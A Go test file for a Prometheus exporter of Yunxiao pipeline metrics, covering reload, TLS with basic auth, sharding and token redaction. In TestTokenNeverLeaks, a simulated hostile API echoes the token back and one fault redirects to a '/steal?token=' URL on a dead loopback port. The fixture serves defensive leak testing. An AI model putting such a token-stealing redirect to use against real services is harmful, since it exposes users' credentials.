package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	dto "github.com/prometheus/client_model/go"
	"github.com/prometheus/exporter-toolkit/web"
	"go.yaml.in/yaml/v3"
	"golang.org/x/crypto/bcrypt"

	"github.com/yunxiao-exporter/yunxiao_exporter/collector"
	"github.com/yunxiao-exporter/yunxiao_exporter/flowsim"
)

const testToken = "pt-main-test-token-5e1d"

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// exporter runs the real program in-process on a loopback listener.
type exporter struct {
	t      *testing.T
	base   string
	stderr *lockedBuffer
	cancel context.CancelFunc
	done   chan int
}

func startExporter(t *testing.T, args ...string) *exporter {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	e := &exporter{t: t, base: "http://" + ln.Addr().String(), stderr: &lockedBuffer{}, cancel: cancel, done: make(chan int, 1)}
	go func() { e.done <- run(ctx, args, io.Discard, e.stderr, ln) }()
	t.Cleanup(func() { e.stop() })
	return e
}

// stop shuts the exporter down as SIGTERM would and returns its exit code.
func (e *exporter) stop() int {
	e.cancel()
	code, ok := <-e.done
	if ok {
		close(e.done)
	}
	return code
}

func (e *exporter) get(path string) (int, string) {
	e.t.Helper()
	return e.do(http.MethodGet, path)
}

func (e *exporter) do(method, path string) (int, string) {
	e.t.Helper()
	req, _ := http.NewRequest(method, e.base+path, nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body)
}

func writeConfig(t *testing.T, path, endpoint, pipelines string) {
	t.Helper()
	cfg := fmt.Sprintf("yunxiao:\n  endpoint: %s\n  organization_id: org-1\n  token_file: token\ncache_ttl: 30s\npipelines:\n%s", endpoint, pipelines)
	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestServeReloadAndShutdown(t *testing.T) {
	sim := flowsim.New(flowsim.Options{Token: testToken, OrganizationID: "org-1"}, flowsim.DemoPipelines()...)
	api := httptest.NewServer(sim)
	t.Cleanup(api.Close)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "token"), []byte(testToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfgPath := filepath.Join(dir, "config.yml")
	writeConfig(t, cfgPath, api.URL, "  - id: 1001\n")

	e := startExporter(t, "--config.file="+cfgPath, "--log.level=debug")
	for _, path := range []string{"/-/healthy", "/-/ready"} {
		if code, body := e.get(path); code != http.StatusOK {
			t.Errorf("%s: %d %s", path, code, body)
		}
	}
	code, body := e.get("/")
	if code != http.StatusOK || !strings.Contains(body, "/metrics") || !strings.Contains(body, "/-/healthy") {
		t.Errorf("landing page: %d %s", code, body)
	}
	_, metrics := e.get("/metrics")
	for _, want := range []string{`pipeline_id="1001",pipeline_name="backend-build"`, "yunxiao_up 1", "yunxiao_exporter_config_last_reload_successful 1", "go_goroutines", "process_"} {
		if !strings.Contains(metrics, want) {
			t.Errorf("/metrics lacks %q", want)
		}
	}

	if code, _ := e.get("/-/reload"); code != http.StatusMethodNotAllowed {
		t.Errorf("GET /-/reload: %d, want 405", code)
	}
	writeConfig(t, cfgPath, api.URL, "  - id: 1002\n    name: renamed-frontend\n")
	if code, body := e.do(http.MethodPost, "/-/reload"); code != http.StatusOK {
		t.Fatalf("reload: %d %s", code, body)
	}
	_, metrics = e.get("/metrics")
	if strings.Contains(metrics, `pipeline_id="1001"`) || !strings.Contains(metrics, `pipeline_name="renamed-frontend"`) {
		t.Errorf("after reload, pipelines are not the new config's:\n%s", grep(metrics, "yunxiao_pipeline_up"))
	}

	// A broken file is refused with its error; the running config stays.
	if err := os.WriteFile(cfgPath, []byte("yunxiao:\n  edition: centrall\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	code, body = e.do(http.MethodPost, "/-/reload")
	if code != http.StatusInternalServerError || !strings.Contains(body, "config.yml:2: yunxiao.edition: must be central or region") {
		t.Errorf("broken reload: %d %s", code, body)
	}
	_, metrics = e.get("/metrics")
	if !strings.Contains(metrics, `pipeline_name="renamed-frontend"`) || !strings.Contains(metrics, "yunxiao_exporter_config_last_reload_successful 0") {
		t.Errorf("after a broken reload the old config must stay and the failure show:\n%s", grep(metrics, "yunxiao_exporter_config"))
	}

	if code := e.stop(); code != 0 {
		t.Errorf("graceful shutdown exited %d", code)
	}
	if logs := e.stderr.String(); strings.Contains(logs, testToken) || strings.Contains(metrics, testToken) {
		t.Error("the token reached the log or the metrics")
	}
}

func TestDemo(t *testing.T) {
	e := startExporter(t, "--demo", "--log.level=debug")
	_, metrics := e.get("/metrics")
	for _, p := range flowsim.DemoPipelines() {
		if want := fmt.Sprintf(`yunxiao_pipeline_up{pipeline_id="%d",pipeline_name=%q} 1`, p.ID, p.Name); !strings.Contains(metrics, want) {
			t.Errorf("demo lacks %s", want)
		}
	}
	for _, want := range []string{`status="WAITING"`, `pipeline_name="data-sync",status="RUNNING"`} {
		if !strings.Contains(metrics, want) {
			t.Errorf("demo lacks %s", want)
		}
	}
	if strings.Contains(metrics, "sim-registry-secret") || strings.Contains(metrics, "pt-demo-token") {
		t.Error("a run parameter or the demo token reached /metrics")
	}
	if code, body := e.do(http.MethodPost, "/-/reload"); code != http.StatusInternalServerError || !strings.Contains(body, "--demo") {
		t.Errorf("reload in demo mode: %d %s", code, body)
	}
}

func TestConfigCheck(t *testing.T) {
	dir := t.TempDir()
	token := filepath.Join(dir, "token")
	if err := os.WriteFile(token, []byte("pt-x"), 0o600); err != nil {
		t.Fatal(err)
	}
	example, err := os.ReadFile("config.yml.example")
	if err != nil {
		t.Fatal(err)
	}
	good := filepath.Join(dir, "good.yml")
	if err := os.WriteFile(good, bytes.ReplaceAll(example, []byte("/etc/yunxiao_exporter/token"), []byte(token)), 0o600); err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(dir, "bad.yml")
	if err := os.WriteFile(bad, []byte("yunxiao:\n  token: x\n  organization_id: o\n  burst: many\npipelines:\n  - id: 1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		file       string
		code       int
		wantOut    string
		wantErrOut string
	}{
		{good, 0, "OK: 2 pipelines, central edition, cache_ttl 30s", ""},
		{bad, 1, "", bad + ":4: yunxiao.burst: cannot unmarshal !!str `many` as an integer"},
		{filepath.Join(dir, "missing.yml"), 1, "", "missing.yml: no such file or directory"},
	}
	for _, tc := range cases {
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), []string{"--config.file=" + tc.file, "--config.check"}, &stdout, &stderr, nil)
		if code != tc.code || !strings.Contains(stdout.String(), tc.wantOut) || !strings.Contains(stderr.String(), tc.wantErrOut) {
			t.Errorf("%s: exit %d, stdout %q, stderr %q; want %d, %q, %q", tc.file, code, stdout.String(), stderr.String(), tc.code, tc.wantOut, tc.wantErrOut)
		}
	}
}

func TestBadFlags(t *testing.T) {
	var stderr bytes.Buffer
	if code := run(context.Background(), []string{"--log.level=loud"}, io.Discard, &stderr, nil); code != 2 {
		t.Errorf("bad flag: exit %d, want 2 (%s)", code, stderr.String())
	}
}

// TestReadmeMetricsTable keeps README's metrics table true to the code:
// every exported metric has a row with its type and labels, and every row
// is exported.
func TestReadmeMetricsTable(t *testing.T) {
	readme, err := os.ReadFile("README.md")
	if err != nil {
		t.Fatal(err)
	}
	table := between(t, string(readme), "<!-- metrics-table:start -->", "<!-- metrics-table:end -->")
	row := regexp.MustCompile("^\\| `(yunxiao_[a-z_]+)` \\| (gauge|counter|histogram) \\|([^|]*)\\|")
	documented := map[string]string{}
	for _, line := range strings.Split(table, "\n") {
		if m := row.FindStringSubmatch(line); m != nil {
			documented[m[1]] = m[2] + " " + strings.NewReplacer("`", "", " ", "").Replace(m[3])
		}
	}

	exported := map[string]string{}
	for _, d := range append(collector.Definitions(), collector.DiscoveryDefinitions()...) {
		exported[d.Name] = describe(d.Type, d.Labels)
	}
	// Absent until the first accepted webhook event, so no scrape here shows it.
	exported["yunxiao_webhook_last_accepted_timestamp_seconds"] = "gauge "
	// The rest: run a scrape so that every vector has a child, then gather.
	sim := flowsim.New(flowsim.Options{Token: testToken, OrganizationID: "org-1"}, flowsim.DemoPipelines()...)
	api := httptest.NewServer(sim)
	t.Cleanup(api.Close)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "token"), []byte(testToken), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(dir, "config.yml")
	writeConfig(t, cfg, api.URL, "  - id: 1001\n")
	e := startExporter(t, "--config.file="+cfg)
	_, body := e.get("/metrics")
	for name, typ := range parseExposition(t, body) {
		if strings.HasPrefix(name, "yunxiao_") {
			if _, ok := exported[name]; !ok {
				exported[name] = typ
			}
		}
	}
	for name, want := range exported {
		if got, ok := documented[name]; !ok {
			t.Errorf("README's metrics table lacks `%s` (%s)", name, want)
		} else if got != want {
			t.Errorf("README documents `%s` as %q; the code exports %q", name, got, want)
		}
	}
	for name := range documented {
		if _, ok := exported[name]; !ok {
			t.Errorf("README documents `%s`, which is not exported", name)
		}
	}
}

func describe(t dto.MetricType, labels []string) string {
	sorted := append([]string(nil), labels...)
	sort.Strings(sorted)
	return strings.ToLower(t.String()) + " " + strings.Join(sorted, ",")
}

// parseExposition returns each family's "type labels" from text format.
func parseExposition(t *testing.T, body string) map[string]string {
	t.Helper()
	types := map[string]string{}
	labels := map[string]map[string]bool{}
	typeLine := regexp.MustCompile(`^# TYPE (\S+) (\S+)$`)
	sample := regexp.MustCompile(`^([a-zA-Z_:][a-zA-Z0-9_:]*)(?:\{(.*)\})? `)
	labelName := regexp.MustCompile(`([a-zA-Z_][a-zA-Z0-9_]*)="`)
	for _, line := range strings.Split(body, "\n") {
		if m := typeLine.FindStringSubmatch(line); m != nil {
			types[m[1]] = m[2]
			labels[m[1]] = map[string]bool{}
			continue
		}
		m := sample.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		name := m[1]
		if _, ok := types[name]; !ok {
			name = regexp.MustCompile(`_(bucket|sum|count)$`).ReplaceAllString(name, "")
		}
		for _, l := range labelName.FindAllStringSubmatch(m[2], -1) {
			if l[1] != "le" {
				labels[name][l[1]] = true
			}
		}
	}
	out := map[string]string{}
	for name, typ := range types {
		var ls []string
		for l := range labels[name] {
			ls = append(ls, l)
		}
		sort.Strings(ls)
		out[name] = typ + " " + strings.Join(ls, ",")
	}
	return out
}

func between(t *testing.T, s, start, end string) string {
	t.Helper()
	i, j := strings.Index(s, start), strings.Index(s, end)
	if i < 0 || j < i {
		t.Fatalf("README lacks the %s … %s markers", start, end)
	}
	return s[i+len(start) : j]
}

func grep(s, substr string) string {
	var out []string
	for _, line := range strings.Split(s, "\n") {
		if strings.Contains(line, substr) {
			out = append(out, line)
		}
	}
	return strings.Join(out, "\n")
}

func TestVersionAndHelpExit(t *testing.T) {
	for _, args := range [][]string{{"--version"}, {"--help"}} {
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), args, &stdout, &stderr, nil)
		out := stdout.String() + stderr.String()
		if code != 0 || !strings.Contains(out, "yunxiao_exporter") {
			t.Errorf("%v: exit %d, output %q", args, code, out)
		}
	}
}

// TestWebConfigTLSAndBasicAuth runs the exporter behind exporter-toolkit's
// --web.config.file with TLS and basic auth, end to end.
func TestWebConfigTLSAndBasicAuth(t *testing.T) {
	dir := t.TempDir()
	caPEM, certPEM, keyPEM := selfSignedCert(t)
	writeTestFile(t, filepath.Join(dir, "tls.crt"), certPEM)
	writeTestFile(t, filepath.Join(dir, "tls.key"), keyPEM)
	hash, err := bcrypt.GenerateFromPassword([]byte("s3cret-scrape"), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	writeTestFile(t, filepath.Join(dir, "web.yml"), []byte(fmt.Sprintf(
		"tls_server_config:\n  cert_file: tls.crt\n  key_file: tls.key\nbasic_auth_users:\n  prometheus: %s\n", hash)))

	e := startExporter(t, "--demo", "--web.config.file="+filepath.Join(dir, "web.yml"))
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caPEM)
	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, ServerName: "localhost"}}}
	httpsURL := strings.Replace(e.base, "http://", "https://", 1) + "/metrics"

	cases := []struct {
		name       string
		user, pass string
		want       int
	}{
		{"right credentials", "prometheus", "s3cret-scrape", http.StatusOK},
		{"wrong password", "prometheus", "guess", http.StatusUnauthorized},
		{"no credentials", "", "", http.StatusUnauthorized},
	}
	for _, tc := range cases {
		req, _ := http.NewRequest(http.MethodGet, httpsURL, nil)
		if tc.user != "" {
			req.SetBasicAuth(tc.user, tc.pass)
		}
		resp, err := client.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != tc.want {
			t.Errorf("%s: HTTP %d, want %d", tc.name, resp.StatusCode, tc.want)
		}
		if tc.want == http.StatusOK && !strings.Contains(string(body), "yunxiao_up") {
			t.Errorf("%s: no metrics in the answer", tc.name)
		}
	}
	// Plain HTTP gets no metrics.
	resp, err := http.Get(e.base + "/metrics")
	if err == nil {
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if strings.Contains(string(body), "yunxiao_up") {
			t.Error("metrics were served over plain HTTP with TLS configured")
		}
	}
}

func writeTestFile(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
}

// selfSignedCert returns a CA-signed localhost certificate: CA PEM, cert PEM, key PEM.
func selfSignedCert(t *testing.T) (caPEM, certPEM, keyPEM []byte) {
	t.Helper()
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	caCert, _ := x509.ParseCertificate(caDER)
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "localhost"},
		DNSNames: []string{"localhost"}, IPAddresses: []net.IP{net.ParseIP("127.0.0.1")},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, caCert, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}),
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
		pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER})
}

// TestExampleWebConfig: the shipped example parses with the toolkit's own
// schema, and its user's hash is real bcrypt.
func TestExampleWebConfig(t *testing.T) {
	data, err := os.ReadFile("deploy/web-config.yml")
	if err != nil {
		t.Fatal(err)
	}
	var cfg web.Config // the toolkit's own schema, strictly
	dec := yaml.NewDecoder(bytes.NewReader(data))
	dec.KnownFields(true)
	if err := dec.Decode(&cfg); err != nil {
		t.Fatal(err)
	}
	if cfg.TLSConfig.TLSCertPath == "" || cfg.TLSConfig.TLSKeyPath == "" || len(cfg.Users) == 0 {
		t.Fatalf("the example should show TLS and basic auth: %+v", cfg)
	}
	for user, hash := range cfg.Users {
		if err := bcrypt.CompareHashAndPassword([]byte(string(hash)), []byte("change-me")); err != nil {
			t.Errorf("user %s: %v", user, err)
		}
	}
}

// TestTokenNeverLeaks: an API that echoes the token back in every kind of
// error, at debug level: the token reaches no log line, metric, landing
// page or reload error.
func TestTokenNeverLeaks(t *testing.T) {
	const secret = "pt-LEAKCHECK-9f8e7d6c5b4a"
	sim := flowsim.New(flowsim.Options{Token: secret, OrganizationID: "org-1"}, flowsim.DemoPipelines()...)
	echo := func(status int, contentType, format string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", contentType)
			w.Header().Set("x-request-id", r.Header.Get("x-yunxiao-token"))
			w.WriteHeader(status)
			fmt.Fprintf(w, format, r.Header.Get("x-yunxiao-token"))
		}
	}
	sim.Fault(1001, echo(401, "application/json", `{"errorCode":"InvalidTokenError","errorMessage":"token %s is invalid"}`))
	sim.Fault(1002, echo(502, "text/html", `<html><title>bad gateway for %s</title></html>`))
	sim.Fault(1003, echo(200, "application/json", `{"pipelineRunId": "%s"}`))
	sim.Fault(1004, echo(403, "text/plain", `forbidden: %s`))
	sim.Fault(1005, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://127.0.0.1:1/steal?token="+r.Header.Get("x-yunxiao-token"), http.StatusFound)
	})
	api := httptest.NewServer(sim)
	t.Cleanup(api.Close)
	dir := t.TempDir()
	writeTestFile(t, filepath.Join(dir, "token"), []byte(secret))
	cfgPath := filepath.Join(dir, "config.yml")
	writeConfig(t, cfgPath, api.URL, "  - id: 1001\n  - id: 1002\n  - id: 1003\n  - id: 1004\n  - id: 1005\n  - id: 1006\n")

	for _, format := range []string{"logfmt", "json"} {
		e := startExporter(t, "--config.file="+cfgPath, "--log.level=debug", "--log.format="+format)
		_, metrics := e.get("/metrics")
		_, landing := e.get("/")
		// A reload whose config has an error next to the inline token.
		writeTestFile(t, filepath.Join(dir, "bad.yml"), []byte("yunxiao:\n  token: "+secret+"\n  organization_id: o\n  timeout: -1s\npipelines:\n  - id: 1\n"))
		var stdout, stderr bytes.Buffer
		run(context.Background(), []string{"--config.file=" + filepath.Join(dir, "bad.yml"), "--config.check"}, &stdout, &stderr, nil)
		e.stop()
		for what, text := range map[string]string{"log": e.stderr.String(), "metrics": metrics, "landing page": landing, "config check": stdout.String() + stderr.String()} {
			if strings.Contains(text, secret) {
				t.Errorf("%s: the token reached the %s:\n%s", format, what, grep(text, secret))
			}
		}
		if !strings.Contains(e.stderr.String(), "<secret>") {
			t.Errorf("%s: expected the echoed token to be logged redacted as <secret>", format)
		}
		if !strings.Contains(metrics, `yunxiao_pipeline_up{pipeline_id="1006",pipeline_name="release-notes"} 1`) {
			t.Errorf("%s: the healthy pipeline is not up", format)
		}
	}
}

func TestShardFlags(t *testing.T) {
	for _, args := range [][]string{{"--shard.total=0"}, {"--shard.index=2", "--shard.total=2"}, {"--shard.index=-1", "--shard.total=2"}} {
		var stderr bytes.Buffer
		if code := run(context.Background(), append(args, "--demo"), io.Discard, &stderr, nil); code != 2 || !strings.Contains(stderr.String(), "--shard.") {
			t.Errorf("%v: exit %d, %q; want 2 and a message naming the flag", args, code, stderr.String())
		}
	}
	e := startExporter(t, "--demo", "--shard.index=1", "--shard.total=2")
	_, metrics := e.get("/metrics")
	if !strings.Contains(metrics, `yunxiao_exporter_shard_info{shard_index="1",shard_total="2"} 1`) {
		t.Error("the shard info metric is missing")
	}
	for _, p := range flowsim.DemoPipelines() {
		has := strings.Contains(metrics, fmt.Sprintf(`yunxiao_pipeline_up{pipeline_id="%d",`, p.ID))
		if want := collector.ShardOf(p.ID, 2) == 1; has != want {
			t.Errorf("pipeline %d exported=%v, want %v", p.ID, has, want)
		}
	}
}

// TestSIGHUPReloads: SIGHUP takes the same path as POST /-/reload. The
// signal arrives asynchronously, so the test waits (bounded) for its effect.
func TestSIGHUPReloads(t *testing.T) {
	sim := flowsim.New(flowsim.Options{Token: testToken, OrganizationID: "org-1"}, flowsim.DemoPipelines()...)
	api := httptest.NewServer(sim)
	t.Cleanup(api.Close)
	dir := t.TempDir()
	writeTestFile(t, filepath.Join(dir, "token"), []byte(testToken))
	cfgPath := filepath.Join(dir, "config.yml")
	writeConfig(t, cfgPath, api.URL, "  - id: 1001\n")
	e := startExporter(t, "--config.file="+cfgPath)
	if _, body := e.get("/metrics"); !strings.Contains(body, `pipeline_id="1001"`) {
		t.Fatal("the first config is not in force")
	}
	writeConfig(t, cfgPath, api.URL, "  - id: 1002\n    name: after-sighup\n")
	if err := syscall.Kill(os.Getpid(), syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	deadline := time.After(10 * time.Second)
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for {
		if _, body := e.get("/metrics"); strings.Contains(body, `pipeline_name="after-sighup"`) && !strings.Contains(body, `pipeline_id="1001"`) {
			return
		}
		select {
		case <-deadline:
			t.Fatal("SIGHUP did not reload the config within 10s")
		case <-tick.C:
		}
	}
}
